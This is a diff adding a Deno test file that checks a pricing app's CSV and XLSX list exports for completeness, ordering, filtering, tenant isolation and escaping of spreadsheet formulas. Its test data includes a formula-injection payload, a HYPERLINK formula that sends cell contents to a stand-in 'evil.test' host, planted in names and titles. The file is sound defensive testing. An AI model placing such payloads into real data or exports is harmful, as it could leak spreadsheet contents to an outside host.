@@ -1,0 +1,232 @@
+/** Lists as files over HTTP: whole, in their order, by their filters, and nothing that runs. */
+import { deepStrictEqual as assertEquals, match, ok } from "node:assert/strict";
+import { type Columns, openListTable } from "../../src/platform/http/list_file.ts";
+import type { Caller } from "../caller.ts";
+import { csvCells } from "../csv_cells.ts";
+import { addProduct, addRule, push, untilJudged } from "../evaluation/market.ts";
+import type { TestApp } from "../harness.ts";
+import { startErp } from "../price_export/erp.ts";
+import { sheetsOf } from "../read_workbook.ts";
+import { ended, startScrapingApp } from "../scraping/scraping_app.ts";
+import { bodyOf, refusalOf } from "./answers.ts";
+
+const RUNS = '=HYPERLINK("http://evil.test/"&A1,"x")';
+
+type Row = Readonly<Record<string, unknown>>;
+
+interface FiledList {
+  readonly path: string;
+  /** As in the address. */
+  readonly queries: readonly string[];
+  /** What tells the rows of the list apart, and in which column it stands. */
+  readonly idOf: (row: Row) => unknown;
+  readonly idIn: string;
+  /** The column with a text that a spreadsheet would run. */
+  readonly hostileIn: string | null;
+  /** Less pages. */
+  readonly isWhole?: boolean;
+}
+
+const byId = { idOf: ({ id }: Row) => id, idIn: "id" };
+
+const LISTS: readonly FiledList[] = [
+  {
+    path: "/api/alerts",
+    queries: ["", "order=desc", "severity=high"],
+    ...byId,
+    hostileIn: "title",
+  },
+  { path: "/api/competitors", queries: [""], ...byId, hostileIn: "displayName" },
+  { path: "/api/rules", queries: [""], ...byId, hostileIn: "name", isWhole: true },
+  {
+    path: "/api/scrape-runs",
+    queries: ["", "order=desc", "status=failed"],
+    ...byId,
+    hostileIn: "sku",
+  },
+  {
+    path: "/api/imports",
+    queries: ["", "source=default", "source=other"],
+    idOf: ({ jobId }) => jobId,
+    idIn: "jobId",
+    hostileIn: null,
+  },
+  { path: "/api/import-sources", queries: [""], ...byId, hostileIn: "name" },
+  {
+    path: "/api/price-arrivals",
+    queries: ["", "status=missing", "status=waiting"],
+    idOf: ({ productId }) => productId,
+    idIn: "productId",
+    hostileIn: null,
+  },
+  {
+    path: "/api/proposals",
+    queries: ["", "status=open&sort=effect", "status=open&direction=up", "order=desc"],
+    ...byId,
+    hostileIn: "title",
+  },
+  {
+    path: "/api/market/moves",
+    queries: ["", "kind=new_offer", "kind=up", "hasCategory=true"],
+    ...byId,
+    hostileIn: "title",
+    isWhole: true,
+  },
+];
+
+/** Something in every list; what people and files may call things is hostile. */
+async function fill(app: TestApp): Promise<void> {
+  const { owner } = app;
+  const erp = await startErp(app);
+  await erp.set("P", 11);
+  await erp.set("Q", 21);
+  await erp.set("R", 31);
+  await erp.fetch();
+  await erp.send({ P: "12,00", R: "31,00" });
+  const actions = [
+    { type: "propose_price", formula: "match_cheapest" },
+    { type: "alert_inapp", severity: "high" },
+  ];
+  await addRule(owner, { name: RUNS, priority: 7, actions });
+  await addRule(owner, { name: "Zweite", priority: 3, enabled: false });
+  for (const sku of ["=A", "B", "C"]) await addProduct(owner, sku, { title: RUNS, category: "K" });
+  await push(app, [["=A", "acme", 90], ["B", "acme", 80], ["C", "bolt", 95]]);
+  await untilJudged(app);
+  const { items } = await bodyOf(owner.get("/api/competitors"), 200);
+  const named = { displayName: RUNS };
+  await bodyOf(owner.patch(`/api/competitors/${items[0].id}`, named), 200);
+  await bodyOf(owner.post("/api/import-sources", { id: "other", name: RUNS }), 201);
+  const products = await bodyOf(owner.get("/api/products?limit=200"), 200);
+  for (const { id, sku } of products.items) {
+    if (!["=A", "B", "C"].includes(sku)) continue;
+    const { runId } = await bodyOf(app.manager.post(`/api/products/${id}/scrape-now`), 202);
+    await ended(app, runId);
+  }
+}
+
+async function listed(caller: Caller, { path, isWhole }: FiledList, query: string): Promise<Row[]> {
+  if (path === "/api/rules") {
+    const rules: Row[] = await bodyOf(caller.get(path), 200);
+    return rules.toSorted((a, b) => Number(a.priority) - Number(b.priority));
+  }
+  if (isWhole) return (await bodyOf(caller.get(`${path}?limit=200&${query}`), 200)).items;
+  const rows: Row[] = [];
+  for (let cursor = "";;) {
+    const page = await bodyOf(caller.get(`${path}?limit=2&${query}${cursor}`), 200);
+    rows.push(...page.items);
+    if (page.nextCursor === null) return rows;
+    cursor = `&cursor=${page.nextCursor}`;
+  }
+}
+
+Deno.test("every list is a CSV and a workbook of all that fits, in its order, and no cell runs", async () => {
+  await using app = await startScrapingApp();
+  await fill(app);
+  const stranger = await app.strangerOwner();
+  for (const list of LISTS) {
+    let seen = 0;
+    for (const query of list.queries) {
+      const where = `${list.path}?${query}`;
+      const rows = await listed(app.viewer, list, query);
+      const answer = await app.viewer.get(`${list.path}.csv?${query}`);
+      assertEquals(answer.status, 200, where);
+      match(
+        answer.headers.get("Content-Disposition") ?? "",
+        /^attachment; filename="[\w-]+\.csv"$/,
+      );
+      const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await answer.arrayBuffer());
+      ok(text.startsWith('\uFEFF"'), where);
+      const [head = [], ...cells] = csvCells(text, ";");
+      const at = head.indexOf(list.idIn);
+      assertEquals(cells.map((row) => row[at]), rows.map(list.idOf), where);
+      ok(cells.every((row) => row.length === head.length), where);
+      for (const cell of cells.flat()) ok(!/^[=+@]/.test(cell), `${where}: ${cell}`);
+      const plain = await app.viewer.get(`${list.path}.csv?dialect=rfc4180&${query}`);
+      assertEquals(csvCells(await plain.text(), ",").length, cells.length + 1, where);
+
+      const workbook = await app.viewer.get(`${list.path}.xlsx?${query}`);
+      assertEquals(workbook.status, 200, where);
+      const { "1": sheet = [] } = await sheetsOf(new Uint8Array(await workbook.arrayBuffer()));
+      assertEquals(sheet[0], head, where);
+      assertEquals(sheet.slice(1).map((row) => row[at]), rows.map(list.idOf), where);
+      const { hostileIn } = list;
+      if (hostileIn !== null && query === "") {
+        const column = head.indexOf(hostileIn);
+        ok(cells.some((row) => /^'=|^'?@/.test(row[column] ?? "")), `${where}: nothing hostile`);
+        // A text of a workbook is a text, whatever it looks like.
+        ok(sheet.some((row) => row[column]?.startsWith("=")), where);
+      }
+      seen += rows.length;
+      const others = csvCells(await (await stranger.get(`${list.path}.csv?${query}`)).text(), ";");
+      const own = others.slice(1).map((row) => row[at] ?? "");
+      assertEquals(own.filter((id) => id !== "default" && rows.map(list.idOf).includes(id)), []);
+    }
+    ok(seen > 1, `${list.path}: ${seen} rows`);
+    for (const query of ["limit=2", "cursor=x", "nothing=1"]) {
+      await refusalOf(app.viewer.get(`${list.path}.csv?${query}`));
+      await refusalOf(app.viewer.get(`${list.path}.xlsx?${query}`));
+    }
+  }
+});
+
+Deno.test("amounts of files are in major units, and a run's results are one, too", async () => {
+  await using app = await startScrapingApp();
+  await fill(app);
+  const cellsOf = async (path: string) => {
+    const [head = [], ...rows] = csvCells(await (await app.viewer.get(path)).text(), ";");
+    return rows.map((row) => new Map(head.map((name, at) => [name, row[at]])));
+  };
+  const arrivals = await cellsOf("/api/price-arrivals.csv");
+  assertEquals(
+    arrivals.map((row) => ["sku", "status", "expected", "seen", "currency"].map((n) => row.get(n))),
+    [["P", "not_arrived", "11,00", "12,00", "EUR"], ["Q", "waiting", "21,00", "", "EUR"]],
+  );
+  const [proposal] = await cellsOf("/api/proposals.csv?status=open&sku=B");
+  assertEquals(["current", "proposed"].map((name) => proposal?.get(name)), ["100,00", "80,00"]);
+  const [first, second] = await cellsOf("/api/rules.csv");
+  assertEquals([first?.get("name"), second?.get("priority")], ["Zweite", "7"]);
+  match(second?.get("sentence") ?? "", /^Wenn /);
+
+  const [run] = (await bodyOf(app.viewer.get("/api/scrape-runs"), 200)).items;
+  const results = await cellsOf(`/api/scrape-runs/${run.id}/results.csv`);
+  assertEquals(
+    results.map((row) => [row.get("url"), row.get("status"), row.get("errorCode")]),
+    run.results.map((one: Row) => [one.url, one.status, one.errorCode]),
+  );
+  assertEquals(results.length, 1);
+  for (const file of ["csv", "xlsx"]) {
+    const path = `/api/scrape-runs/${"0".repeat(24)}/results.${file}`;
+    assertEquals((await refusalOf(app.viewer.get(path))).code, "not_found");
+    const refused = await refusalOf(
+      app.viewer.get(`/api/proposals.${file}?status=applied&sort=rule`),
+    );
+    assertEquals(refused.code, "validation_failed");
+  }
+});
+
+const NUMBERS: Columns<number> = { n: (n) => n, half: (n) => n / 2 };
+
+async function rowsOf(read: Parameters<typeof openListTable<number>>[2]): Promise<unknown[]> {
+  const { columns, batches } = await openListTable("numbers", NUMBERS, read);
+  return [columns, ...(await Array.fromAsync(batches)).flat()];
+}
+
+Deno.test("a list is read page by page, each when the one before was taken", async () => {
+  const asked: (string | undefined)[] = [];
+  const table = await openListTable("numbers", NUMBERS, ({ cursor }) => {
+    asked.push(cursor);
+    const n = Number(cursor ?? 0);
+    const items = n === 2 ? [] : [n * 2, n * 2 + 1];
+    return Promise.resolve({ items, count: items.length, nextCursor: n < 3 ? `${n + 1}` : null });
+  });
+  assertEquals(asked, [undefined]);
+  const batches = table.batches[Symbol.asyncIterator]();
+  await batches.next();
+  assertEquals(asked, [undefined]);
+  assertEquals((await batches.next()).value, [[2, 1], [3, 1.5]]);
+  // A page that is empty before the last one ends nothing.
+  assertEquals((await batches.next()).value, [[6, 3], [7, 3.5]]);
+  assertEquals([(await batches.next()).done, asked], [true, [undefined, "1", "2", "3"]]);
+  const none = { items: [], count: 0, nextCursor: null };
+  assertEquals(await rowsOf(() => Promise.resolve(none)), [["n", "half"]]);
+});
